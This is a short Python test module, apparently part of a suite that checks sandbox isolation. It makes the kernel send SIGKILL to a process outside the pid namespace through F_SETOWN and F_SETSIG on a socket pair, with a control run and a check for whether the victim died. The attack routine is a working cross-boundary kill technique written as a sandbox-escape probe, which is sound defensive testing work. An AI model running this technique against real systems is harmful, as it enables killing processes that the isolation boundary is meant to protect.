"""Has the kernel send SIGKILL to a process outside: F_SETOWN and F_SETSIG on a socket that becomes
readable.

layer: pid namespace
control: the same user without a sandbox kills it that way
"""
import time


def scene(s):
    s.pid = s.victim()["pid"]
    s.args = {"pid": s.pid}


def attack(a):
    import fcntl
    x, y = socket.socketpair()
    attempt(fcntl.fcntl, x, 8, a["pid"])
    attempt(fcntl.fcntl, x, 10, int(signal.SIGKILL))
    attempt(fcntl.fcntl, x, 4, os.O_ASYNC | os.O_NONBLOCK)
    y.send(b"x")
    time.sleep(0.05)


def escaped(s, r):
    end = time.monotonic() + (5 if s.control else 0.3)	# a busy machine takes a while to end it
    while s.alive(s.pid):
        if time.monotonic() > end:
            return False
        time.sleep(0.01)
    return True
